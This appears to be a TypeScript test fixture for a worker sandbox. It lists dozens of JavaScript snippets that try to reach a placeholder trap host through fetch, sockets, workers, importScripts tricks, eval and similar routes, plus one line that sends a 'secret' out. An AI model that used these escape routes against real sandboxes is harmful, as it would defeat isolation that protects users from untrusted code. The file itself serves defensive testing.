/**
 * Ways by which code could reach another computer, each as the body of an async function. HOST stands for the trap's
 * host and port. What a worker does not have (images, frames, peer connections) is tried all the same: an engine may
 * give it to workers one day.
 */
export const networkWays: Record<string, string> = {
  fetch: 'return (await fetch("http://HOST/fetch")).status',
  'fetch without an answer': 'return (await fetch("http://HOST/opaque", { mode: "no-cors", keepalive: true })).type',
  'a request object': 'return (await fetch(new Request("http://HOST/request"))).status',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr", false); x.send(); return x.status',
  WebSocket: 'return opens(new WebSocket("ws://HOST/socket"))',
  WebSocketStream: 'return (await new WebSocketStream("ws://HOST/stream").opened).protocol',
  EventSource: 'return opens(new EventSource("http://HOST/events"))',
  WebTransport: 'await new WebTransport("https://HOST/transport").ready',
  RTCPeerConnection:
    'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }); c.createDataChannel("x"); await c.setLocalDescription(); await rest(500)',
  'navigator.sendBeacon': 'return navigator.sendBeacon("http://HOST/beacon", "x")',
  'importScripts of an address': 'importScripts("http://HOST/script.js")',
  'importScripts of a prototype':
    'let p = globalThis; while (!Object.hasOwn(p, "importScripts")) p = Object.getPrototypeOf(p); p.importScripts.call(globalThis, "http://HOST/script.js")',
  'importScripts of a data address': 'importScripts("data:text/javascript,fetch(%22http://HOST/data%22)")',
  'a worker': 'return opens(new Worker("http://HOST/worker.js"))',
  'a worker from a blob':
    'return opens(new Worker(URL.createObjectURL(new Blob(["fetch(\'http://HOST/nested\').then(() => postMessage(1))"]))))',
  'a worker from a data address':
    'return opens(new Worker("data:text/javascript,fetch(%22http://HOST/data%22).then(()=>postMessage(1))"))',
  'a module worker':
    'return opens(new Worker(URL.createObjectURL(new Blob(["import \'http://HOST/module.js\'; postMessage(1)"])), { type: "module" }))',
  SharedWorker: 'return opens(new SharedWorker("http://HOST/shared.js").port)',
  'a service worker': 'await navigator.serviceWorker.register("http://HOST/service.js")',
  'a font': 'await new FontFace("x", "url(http://HOST/font.woff2)").load()',
  'an image': 'new Image().src = "http://HOST/image.png"; await rest(200); return "asked"',
  'an image by style': 'document.body.style.background = "url(http://HOST/style.png)"; await rest(200)',
  'a look-up ahead of time':
    'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "http://HOST"; document.head.append(l)',
  'WebAssembly.compileStreaming': 'await WebAssembly.compileStreaming(fetch("http://HOST/code.wasm"))',
  'WebAssembly.instantiateStreaming': 'await WebAssembly.instantiateStreaming(fetch("http://HOST/code.wasm"), {})',
  'the cache': 'await (await caches.open("x")).add("http://HOST/cache")',
  'a notification': 'new Notification("x", { icon: "http://HOST/icon.png" }); await rest(200)',
  'a push subscription': 'await registration.pushManager.subscribe()',
  'a background fetch': 'await registration.backgroundFetch.fetch("x", "http://HOST/background")',
  'going elsewhere': 'location.href = "http://HOST/location"; await rest(200)',
  'sending the worker elsewhere': 'self.location = "http://HOST/self"; await rest(200)',
  'opening a window': 'open("http://HOST/open"); await rest(200)',
  'opening a client': 'await clients.openWindow("http://HOST/client")',
  'a frame from a blob':
    'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>fetch(\'http://HOST/frame\')</script>"], { type: "text/html" })); document.body.append(f)',
  'the source map of a script':
    'importScripts(URL.createObjectURL(new Blob(["1\\n//# sourceMappingURL=http://HOST/map"]))); await rest(200)',
  'the address of a thrown script':
    'const e = new Error("x"); e.stack = "Error: x\\n    at f (http://HOST/stack.js:1:1)"; e.fileName = "http://HOST/file.js"; setTimeout(() => { globalThis.reportError?.(e); }); await rest(200); return "asked"',
  'a report of a broken policy':
    'try { eval("1") } catch {} fetch("http://HOST/report?secret").catch(() => {}); await rest(200)',
  'text as code': 'return eval("fetch(\'http://HOST/eval\')")',
  'a function from text':
    'return (await (async () => {}).constructor("return fetch(\'http://HOST/function\')")()).status',
  'text as a timer': 'setTimeout("fetch(\'http://HOST/timer\')", 0); await rest(100)',
};

/** What the ways above are written with. */
export const wayHelpers = `
const rest = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const opens = (target) => new Promise((resolve, reject) => {
  target.onopen = target.onmessage = () => resolve('opened');
  target.onerror = () => reject(new Error('refused'));
});
`;
